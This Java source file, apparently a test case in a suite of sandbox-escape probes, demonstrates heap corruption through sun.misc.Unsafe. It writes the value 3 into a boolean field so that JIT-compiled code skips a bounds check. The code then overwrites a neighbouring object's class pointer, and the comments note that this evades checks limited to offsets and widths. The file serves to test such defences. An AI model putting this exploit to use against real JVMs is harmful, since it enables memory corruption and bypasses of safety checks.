package escape.native_;

import java.lang.reflect.Field;

/**
 * Writes, with {@code sun.misc.Unsafe.putByte}, the byte 3 into a {@code boolean} field of its
 * own: the JIT trusts a boolean to be 0 or 1, compiles {@code array[flag ? 1 : 0]} on an array of
 * two elements to {@code array[flag]} with no bounds check, and so reads and writes past the
 * array. Here it writes over the next object's class pointer and calls a method of that object.
 * Every offset it uses is of its own class, and each access a primitive within one primitive
 * field: a check of offsets and widths alone lets it through.
 *
 * <p>Source: JEP 471, which names heap corruption among what sun.misc.Unsafe lets a program do,
 * https://openjdk.org/jeps/471; the JIT's trust in booleans, JDK-8161720.
 */
public final class UnsafeBooleanByte {

    static final class Flag {
        boolean on;
    }

    static final class Victim {
        int value = 42;
    }

    /** Allocates an array and then an object beside it, and writes over {@code array[flag ? 1 : 0]}. */
    static Object write(Flag flag, long what) {
        long[] array = new long[2];
        Object victim = new Victim();
        array[flag.on ? 1 : 0] = what;
        return victim;
    }

    private UnsafeBooleanByte() {
    }

    public static void main(String[] args) {
        try {
            Field theUnsafe = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
            theUnsafe.setAccessible(true);
            sun.misc.Unsafe unsafe = (sun.misc.Unsafe) theUnsafe.get(null);
            Flag flag = new Flag();
            long on = unsafe.objectFieldOffset(Flag.class.getDeclaredField("on"));
            long sum = 0;
            for (int i = 0; i < 2_000_000; i++) {
                unsafe.putByte(flag, on, (byte) (i & 1));
                sum += write(flag, i).hashCode() & 1;
            }
            unsafe.putByte(flag, on, (byte) 3);
            Object victim = write(flag, 0x4141414141414141L);
            System.out.println("native-unsafe-boolean-byte: the object beside the array is now " + victim.toString() + " (" + sum + ")");
        } catch (Throwable t) {
            System.out.println("native-unsafe-boolean-byte: " + t);
        }
    }
}
